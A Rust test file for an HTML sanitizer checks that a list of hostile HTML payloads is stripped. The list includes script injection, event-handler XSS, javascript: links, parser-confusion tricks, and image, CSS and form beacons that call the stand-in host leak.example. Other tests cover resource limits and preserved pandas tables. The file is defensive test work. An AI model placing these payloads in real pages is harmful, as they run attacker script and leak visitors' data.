//! Hostile HTML, group O of the threat list: each text is found to act by the checker, and not after cleaning.

use crate::checker::in_html;
use crate::pixel;
use atoll_guard::html::clean;

pub(crate) const PAYLOADS: &[&str] = &[
    "<img src=https://leak.example/?q=1>",
    "<IMG SRC='//leak.example/a.png' alt=x>",
    "<img/src=//leak.example>",
    "<img srcset='//leak.example/a 1x, //leak.example/b 2x'>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+ longdesc=//leak.example>",
    "<img src=relative.png>",
    "<img src=x onerror=alert(1)>",
    "<img src=' &#x68;ttps://leak.example'>",
    "<picture><source srcset=//leak.example/a><img src=//leak.example/b></picture>",
    "<a href=https://leak.example/?q=1 ping=//leak.example>click</a>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<script>fetch('//leak.example')</script>",
    "<script src=//leak.example/a.js></script>",
    "<script/x='<script>'>fetch('//leak.example')</script>",
    "<iframe src=//leak.example></iframe>",
    "<iframe srcdoc='<img src=//leak.example>'></iframe>",
    "<frameset><frame src=//leak.example></frameset><iframe src=//leak.example>",
    "<object data=//leak.example></object>",
    "<embed src=//leak.example>",
    "<applet code=x archive=//leak.example></applet>",
    "<form action=//leak.example><input name=q value=1><button formaction=//leak.example>Go</button></form>",
    "<input type=image src=//leak.example>",
    "<base href=//leak.example/><img src=x>",
    "<link rel=stylesheet href=//leak.example>",
    "<link rel=prefetch href=//leak.example>",
    "<meta http-equiv=refresh content='0;url=//leak.example'>",
    "<style>@import '//leak.example';</style>",
    "<style>body{background:url(//leak.example)}</style>",
    "<style>.dataframe{background:url(//leak.example)}</style>",
    "<style>.dataframe{color:red}</style><style>@import url(//leak.example)</style>",
    "<div style='background:url(//leak.example)'>x</div>",
    "<div style='background:u\\72l(//leak.example)'>x</div>",
    "<div style='list-style:url(//leak.example)'>x</div>",
    "<div style=\"background-image:image-set('//leak.example/a' 1x)\">x</div>",
    "<table background=//leak.example><tr><td background=//leak.example>x</table>",
    "<body background=//leak.example onload=alert(1)><p>x",
    "<div onclick=alert(1) onmouseover='fetch(1)'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<svg onload=alert(1)><image href=//leak.example /></svg>",
    "<svg><use href=//leak.example#a></use></svg>",
    "<svg><style>@import '//leak.example'</style></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><img src=//leak.example></foreignObject></svg>",
    "<math href=//leak.example><mtext><img src=//leak.example></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=//leak.example onerror=alert(1)&gt;'>",
    "<video src=//leak.example poster=//leak.example><track src=//leak.example></video>",
    "<audio src=//leak.example></audio>",
    "<noscript><p title='</noscript><img src=//leak.example onerror=alert(1)>'></noscript>",
    "<template><img src=//leak.example></template>",
    "<textarea><img src=//leak.example></textarea><img src=//leak.example>",
    "<title><img src=//leak.example></title><img src=//leak.example/t>",
    "<xmp><img src=//leak.example></xmp><script>1</script>",
    "<!--><img src=//leak.example>-->",
    "<!-- --!><img src=//leak.example> -->",
    "<![CDATA[<img src=//leak.example>]]><img src=//leak.example>",
    "<?xml-stylesheet href='//leak.example'?><img src=//leak.example>",
    "<q cite=//leak.example>x</q><blockquote cite=//leak.example>y</blockquote>",
    "<img usemap=#m src=//leak.example><map name=m><area href=//leak.example></map>",
    "<b><p><table><tr><td></b><img src=//leak.example></table>",
    "<p><a href=//leak.example><div><a href=//leak.example>nested",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><option><img src=//leak.example onerror=1></select><img src=//leak.example>",
    "<plaintext><img src=//leak.example>",
    "<img alt='`' src='//leak.example'><a href=\"//leak.example\"\nx>y</a>",
    "<img src=//leak.example\u{0}>",
];

#[test]
fn nothing_that_is_left_makes_a_request_or_runs() {
    for payload in PAYLOADS {
        let hostile = *payload != "<plaintext><img src=//leak.example>" && !payload.starts_with("<template>");
        assert!(
            !hostile || !in_html(payload).is_empty(),
            "the checker is blind: {payload}"
        );
        let once = clean(payload).unwrap();
        assert_eq!(in_html(&once.text), [""; 0], "{payload} -> {}", once.text);
        assert!(once.changed, "in silence: {payload} -> {}", once.text);
        let twice = clean(&once.text).unwrap();
        assert!(!twice.changed, "{payload} -> {} -> {}", once.text, twice.text);
        assert_eq!(twice.text, once.text, "{payload}");
    }
}

#[test]
fn every_pair_of_payloads_is_harmless_too() {
    for one in PAYLOADS {
        for other in PAYLOADS {
            let cleaned = clean(&format!("{one}<td>{other}")).unwrap();
            assert_eq!(in_html(&cleaned.text), [""; 0], "{one} {other}");
        }
    }
}

#[test]
fn links_and_images_are_told_in_words() {
    let link = clean("see <a href='https://leak.example/?q=1&b=2'>the <b>table</b></a>.").unwrap();
    assert_eq!(link.text, "see the <b>table</b> (https://leak.example/?q=1&amp;b=2).");
    let image = clean("<img src='//leak.example/a.png' alt='a &lt;chart&gt;'>").unwrap();
    assert_eq!(image.text, "[image: a &lt;chart&gt;] (//leak.example/a.png)");
    let plain = clean("<a href='https://a.example'>https://a.example</a>").unwrap();
    assert_eq!(plain.text, "https://a.example", "not said twice");
}

#[test]
fn tables_of_pandas_stay_as_they_are() {
    let table = include_str!("pandas.html");
    let cleaned = clean(table).unwrap();
    assert!(!cleaned.changed, "{}", cleaned.text);
    for kept in [
        "class=\"dataframe\"",
        "border=\"1\"",
        "<th>city</th>",
        "text-align: right",
        "vertical-align: top",
        "<td>3.5</td>",
    ] {
        assert!(cleaned.text.contains(kept), "{kept}: {}", cleaned.text);
    }
    let styled = include_str!("styler.html");
    let cleaned = clean(styled).unwrap();
    assert!(!cleaned.changed, "{}", cleaned.text);
    for kept in [
        "#T_5f1e0_row0_col0",
        "background-color: #fff7fb",
        "id=\"T_5f1e0_row1_col0\"",
        "linear-gradient(90deg, #d65f5f 50.0%",
    ] {
        assert!(cleaned.text.contains(kept), "{kept}: {}", cleaned.text);
    }
}

#[test]
fn pictures_in_the_text_stay_if_they_are_pictures() {
    let tag = format!("<img src=\"data:image/png;base64,{}\" alt=\"dot\">", pixel());
    let cleaned = clean(&tag).unwrap();
    assert!(!cleaned.changed && cleaned.text.contains(&pixel()), "{}", cleaned.text);
    for wrong in [
        "<img src='data:image/png;base64,AAAA'>".to_owned(),
        format!("<img src='data:image/jpeg;base64,{}'>", pixel()),
        format!("<img src='data:text/html;base64,{}'>", pixel()),
    ] {
        let cleaned = clean(&wrong).unwrap();
        assert!(cleaned.changed && !cleaned.text.contains("<img"), "{wrong}");
    }
}

/// A tree of this would have hundreds of millions of nodes: each paragraph opens every letter that was left open again.
#[test]
fn a_small_text_is_not_a_large_tree() {
    let letters: String = (0..20_000).map(|number| format!("<b a={number}>")).collect();
    let paragraphs = "<p>x".repeat(20_000);
    let refused = clean(&format!("{letters}{paragraphs}")).unwrap_err();
    assert!(refused.0.contains("nested more than 100 levels"), "{refused:?}");
    let few: String = (0..90).map(|number| format!("<b class=c{number}>")).collect();
    let cleaned = clean(&format!("{few}{}", "<p>x".repeat(5_000))).unwrap();
    assert!(cleaned.text.len() < 1_000_000, "{}", cleaned.text.len());
}

#[test]
fn what_is_too_long_too_many_or_too_deep_is_refused_and_said() {
    let cases = [
        ("x".repeat(atoll_guard::html::MOST_BYTES + 1), "bytes"),
        ("<br>".repeat(100_001), "more than 100000 tags"),
        ("<div>".repeat(101), "nested more than 100 levels"),
        (
            format!("<p {}>", (0..500_000).map(|n| format!("a{n} ")).collect::<String>()),
            "more than 300 attributes",
        ),
    ];
    for (text, why) in cases {
        let refused = clean(&text).unwrap_err();
        assert!(refused.0.contains(why), "{refused:?}");
    }
    assert!(clean(&"<li>x".repeat(50_000)).is_ok(), "list items end each other");
}
